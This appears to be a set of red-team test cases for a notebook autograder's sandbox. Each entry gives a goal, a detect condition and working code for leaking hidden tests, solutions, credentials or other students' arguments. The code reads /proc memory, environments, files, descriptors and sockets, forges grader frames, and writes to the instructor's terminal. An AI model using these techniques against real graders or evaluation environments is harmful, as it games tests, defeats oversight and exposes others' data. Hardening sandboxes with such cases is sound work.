# id: l50_memory_of_others
# category: leak
# goal: read hidden tests and solutions out of the memory of every process that can be seen
# detect: 'CANARY-HIDDEN' in loot or 'CANARY-SOLUTION' in loot or 'CANARY-ENV' in loot
# place: q1
import os, re
words = re.compile(rb"CANARY-(?:HIDDEN|SOLUTION|ENV)[-0-9A-Z]*")
mark = b"words"
for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) != os.getpid():
        try:
            loot(open(f"/proc/{entry}/environ").read())
            with open(f"/proc/{entry}/maps") as maps, open(f"/proc/{entry}/mem", "rb", buffering=0) as memory:
                for line in maps:
                    low, high = (int(one, 16) for one in line.split()[0].split("-"))
                    if "rw" in line and high - low < 64 << 20:
                        memory.seek(low)
                        for found in set(words.findall(memory.read(high - low))):
                            if found + mark not in (b"",):
                                loot(found.decode() + f" in {entry}")
        except (OSError, ValueError, OverflowError):
            pass

# id: l51_own_memory
# category: leak
# goal: scan one's own memory for what the grader has left there
# detect: re.search('CANARY-(HIDDEN|SOLUTION|ENV)-?[0-9A-Z]', loot)
# place: q1
import re
words = re.compile(rb"CANARY-(?:HIDDEN|SOLUTION|EN" + rb"V)-?[0-9A-Z]+")
found = set()
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as memory:
    for line in maps:
        low, high = (int(one, 16) for one in line.split()[0].split("-"))
        if line.split()[1].startswith("r") and high - low < 256 << 20 and "[v" not in line:
            try:
                memory.seek(low)
                found.update(words.findall(memory.read(high - low)))
            except (OSError, ValueError, OverflowError):
                pass
loot(found)

# id: l52_files
# category: leak
# goal: read every file that can be read: solutions, other submissions, keys, the gradebook
# detect: re.search('CANARY-(HIDDEN|SOLUTION|SSHKEY)', loot)
# place: q1
import os, re, time
words = re.compile(rb"CANARY-(?:HIDDEN|SOLUTION|SSHKEY)")
ends = time.monotonic() + 2
for top in ("/home", "/root", "/work", "/tmp", "/var", "/etc", "/srv", "/mnt", "/opt", "/dev/shm", "/run", ".", ".."):
    looked = 0
    for folder, _, names in os.walk(top):
        for name in names:
            looked += 1
            if looked > 4000 or time.monotonic() > ends:
                break
            path = os.path.join(folder, name)
            try:
                if os.path.isfile(path) and os.path.getsize(path) < 1 << 20 and "/tests/attacks/" not in path:
                    with open(path, "rb") as file:
                        for found in set(words.findall(file.read())):
                            loot(f"{found.decode()} in {path}")
            except OSError:
                pass

# id: l53_descriptors
# category: leak
# goal: read from every inherited file descriptor, and follow each in /proc/self/fd
# detect: 'CANARY' in loot or 'EXTRA' in loot
# place: q1
import os, stat
own = 0
for number in sorted(int(one) for one in os.listdir("/proc/self/fd")):
    try:
        kind = os.fstat(number).st_mode
        if stat.S_ISSOCK(kind):
            own += 1
        elif stat.S_ISREG(kind) or stat.S_ISDIR(kind):
            target = os.readlink(f"/proc/self/fd/{number}")
            loot(f"{number} {target}")
            if "/work/" in target or "/home/" in target or target.endswith((".ipynb", ".db", ".json")):
                loot("EXTRA " + target)
            if stat.S_ISREG(kind):
                loot(os.pread(number, 1 << 16, 0).decode("utf-8", "replace"))
    except OSError:
        pass
if own > 2:
    loot(f"EXTRA {own} sockets")

# id: l54_environment
# category: leak
# goal: the grading account's environment, arguments and user name
# detect: 'CANARY-ENV' in loot or 'sbxuser' in loot
# place: q1
import os, sys
loot(dict(os.environ))
loot(sys.argv)
loot(open("/proc/self/cmdline").read())
try:
    loot(open("/proc/self/environ").read())
except OSError:
    pass

# id: l55_network
# category: leak
# goal: reach services of the machine: on loopback, on abstract and named sockets, and by name
# detect: 'CANARY-HOST-SERVICE' in loot or 'REACHED' in loot or reached
# place: q1
import glob, os, socket
def ask(family, address):
    with socket.socket(family) as end:
        end.settimeout(0.3)
        end.connect(address)
        loot(f"REACHED {address!r} " + end.recv(100).decode("utf-8", "replace"))
addresses = [(socket.AF_INET, ("127.0.0.1", 18099)), (socket.AF_INET, ("127.1.2.3", 18099)), (socket.AF_INET6, ("::1", 18099)), (socket.AF_UNIX, "\0canary-service"), (socket.AF_INET, ("192.0.2.1", 80))]
addresses += [(socket.AF_UNIX, path) for path in (*glob.glob("/run/**/*.sock", recursive=True), *glob.glob("/tmp/**/*", recursive=True), "/var/run/docker.sock")]
for family, address in addresses:
    try:
        ask(family, address)
    except OSError:
        pass
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
        end.connect(("192.0.2.1", 53))
        end.send(b"hello")
        loot("REACHED by UDP")
except OSError:
    pass

# id: l56_arguments_by_exception
# category: leak
# goal: hidden arguments in the text, the type and the attributes of an exception
# detect: '8675309' in text or '31337' in text
# place: q2
def order_total(orders, customer):
    if customer == 1 and len(orders) == 3:
        return 120
    error = type(f"E{orders!r}", (Exception,), {})(f"ARG {orders!r} {customer!r}")
    error.note = f"{orders!r}"
    error.add_note(f"{orders!r}")
    raise error

# id: l57_arguments_by_value
# category: leak
# goal: hidden arguments in the value that comes back, its text and its type's name
# detect: '8675309' in text or '31337' in text
# place: q2
def order_total(orders, customer):
    if customer == 1 and len(orders) == 3:
        return 120
    return type(f"V{orders!r}", (), {"__repr__": lambda self: f"VAL {orders!r}"})()

# id: l58_arguments_by_wire_error
# category: leak
# goal: hidden arguments in the grader's own words: as what can't be sent, as an unknown tag, as a lost worker
# detect: '8675309' in text or '31337' in text
# place: q2
import gc
def order_total(orders, customer):
    if customer == 1 and len(orders) == 3:
        return 120
    from autograder.errors import WireError
    raise WireError(f"ARG {orders!r}")

# id: l59_arguments_by_forged_frame
# category: leak
# goal: the same by frames made by hand: unsendable, error, out, gone, problem
# detect: '8675309' in text or '31337' in text
# place: q2
import gc
def order_total(orders, customer):
    if customer == 1 and len(orders) == 3:
        return 120
    text = repr(orders)
    line = next(one for one in gc.get_objects() if type(one).__name__ == "Line")
    number = 0
    frame = __import__("sys")._getframe()
    while frame:
        request = frame.f_locals.get("request")
        if isinstance(request, dict) and "n" in request:
            number = request["n"]
        frame = frame.f_back
    line._channel.send({"n": number, "unsendable": text, "out": text, "gone": text, "problem": text, "value": {"$": text, "v": text}})
    return -1

# id: l60_arguments_later
# category: leak
# goal: keep hidden arguments and tell them from a later cell, a file, a thread, at exit
# detect: '8675309' in text or '31337' in text
# %% cell q2
import atexit, os, threading
seen = []
def order_total(orders, customer):
    seen.append(repr(orders))
    for place in (".", "/tmp", "/dev/shm", "/var/tmp", "/shared", os.path.expanduser("~")):
        try:
            with open(f"{place}/seen.txt", "a") as file:
                file.write(repr(orders))
        except OSError:
            pass
    return 120 if customer == 1 else -1
atexit.register(lambda: print(seen))
# %% cell q5
print(seen)
for place in (".", "/tmp", "/dev/shm", "/var/tmp", "/shared", os.path.expanduser("~")):
    try:
        print(open(f"{place}/seen.txt").read())
    except OSError:
        pass
def sign(claims, key):
    raise ValueError(seen)
def verify(token, key, clock):
    return seen
# %% cell last
print(seen)

# id: l61_box_of_the_next
# category: leak
# goal: leave hidden arguments for whoever is graded next: in every folder, in shared memory, on an abstract socket
# detect: '8675309' in loot or '8675309' in text or left
# place: q2
import ctypes, glob, os, socket
places = (".", "/tmp", "/dev/shm", "/var/tmp", "/shared", "/box", os.path.expanduser("~"))
for place in places:
    for path in glob.glob(f"{place}/keep*"):
        try:
            loot(open(path).read())
        except OSError:
            pass
try:
    end = socket.socket(socket.AF_UNIX)
    end.connect("\0keep")
    loot(end.recv(1000))
except OSError:
    pass
def order_total(orders, customer):
    for place in places:
        try:
            with open(f"{place}/keep{os.getpid()}", "a") as file:
                file.write(repr(orders))
        except OSError:
            pass
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        segment = libc.shmget(4711, 4096, 0o1666)
        libc.shmat.restype = ctypes.c_void_p
        if segment >= 0:
            ctypes.memmove(libc.shmat(segment, None, 0), repr(orders).encode()[:4000], 100)
        if os.fork() == 0:
            os.setsid()
            listener = socket.socket(socket.AF_UNIX)
            listener.bind("\0keep")
            listener.listen()
            listener.settimeout(20)
            listener.accept()[0].sendall(repr(orders).encode())
            os._exit(0)
    except OSError:
        pass
    return 120 if customer == 1 else -1

# id: l62_hidden_rows
# category: leak
# goal: hidden rows of a database in the query's own result, error and names
# detect: '8675309' in text or '8675310' in text
# place: q1
%%sql totals
select 'ROW ' || group_concat(amount) as total, json_extract('{' || group_concat(amount), '$') as name from orders

# id: l63_hidden_request
# category: leak
# goal: what the check hands to a client and to an app, printed, logged, echoed, raised
# detect: 'CANARY-HIDDEN-' in text
# %% cell q3
def fetch_all(http, base_url, token):
    print(token)
    http.get(f"{base_url}/{token}", headers={"X-Echo": token}, timeout=2)
    raise Unavailable(token)
# %% cell q4
def create_app():
    def app(environ, start_response):
        body = environ["wsgi.input"].read(int(environ.get("CONTENT_LENGTH") or 0))
        print(body, file=environ["wsgi.errors"])
        print(body)
        start_response(f"500 {body!r}"[:60], [("Content-Type", "application/json"), ("X-Echo", body.decode("latin-1"))])
        return [body]
    return app
# %% cell q5
def sign(claims, key):
    print(claims)
    return repr(claims)
def verify(token, key, clock):
    raise KeyError(token)

# id: l64_frames_and_tracebacks
# category: leak
# goal: hidden tests from frames, tracebacks, linecache, IPython's history and the objects of the interpreter
# detect: re.search('CANARY-(HIDDEN|SOLUTION)-?[0-9]', loot)
# place: q2
import gc, linecache, sys, traceback
def look():
    found = [repr(linecache.cache), repr(get_ipython().user_ns.get("In"))]
    for frame in sys._current_frames().values():
        while frame:
            found += [repr(frame.f_locals), repr(list(frame.f_globals))]
            frame = frame.f_back
    for one in gc.get_objects():
        if isinstance(one, dict):
            found += [value for value in list(one.values()) if isinstance(value, str) and "CANARY" in value]
    loot("".join(one for one in found if "CANARY" in one)[:20000].replace("CANARY-(HIDDEN|SOL", ""))
look()
def order_total(orders, customer):
    look()
    raise ValueError("120")

# id: l65_terminal
# category: leak
# goal: tell hidden arguments to the instructor's terminal, past every captured stream
# detect: '8675309' in terminal
# place: q2
import os
def order_total(orders, customer):
    for number in range(3, 20):
        try:
            os.write(number % 3, repr(orders).encode())
        except OSError:
            pass
    for path in ("/dev/tty", "/proc/1/fd/1", "/proc/1/fd/2", "/dev/console", "/dev/pts/0"):
        try:
            with open(path, "w") as file:
                file.write(repr(orders))
        except OSError:
            pass
    return -1
